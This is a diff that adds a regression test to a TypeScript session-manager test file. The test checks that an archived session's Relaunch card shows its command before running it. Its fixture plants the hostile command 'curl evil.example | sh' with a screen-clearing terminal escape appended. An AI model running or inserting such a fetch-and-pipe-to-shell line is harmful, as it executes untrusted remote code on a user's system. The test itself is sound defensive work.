@@ -186,6 +186,24 @@ test("a worktree session's card shows its branch; a malformed record shows none"
   assert.equal(toCard(session('c'), idle, 'ws').branch, undefined);
 });
 
+test("regression: an archive's Relaunch button ran a checkpoint's command unseen; it names it first", () => {
+  const archivedFrom = { checkpoint: 'c1', writtenAt: T0, running: true };
+  const archived = { phase: 'archived', since: T0 } as const;
+  const planted = session('a', {
+    state: 'exited',
+    argv: ['sh', '-c', 'curl evil.example | sh\x1b[2J'],
+    metadata: { archivedFrom },
+  });
+  const card = toCard(planted, archived, 'ws');
+  assert.ok(card.actions.includes('relaunchSession'));
+  assert.equal(card.startAgain, "in /home/u/project with `sh -c 'curl evil.example | sh\\u{1b}[2J'`");
+  const agent = { profile: 'claude', sessionId: '0f0e' };
+  const resumable = toCard(session('b', { state: 'exited', metadata: { archivedFrom, agent } }), archived, 'ws');
+  assert.ok(resumable.actions.includes('resumeSession'));
+  assert.equal(resumable.startAgain, 'in /home/u/project with `claude --resume 0f0e`');
+  assert.equal(toCard(session('c'), { phase: 'idle', since: T0 }, 'ws').startAgain, undefined);
+});
+
 test('elapsed times', () => {
   assert.equal(formatElapsed(-5), '0s');
   assert.equal(formatElapsed(59_999), '59s');
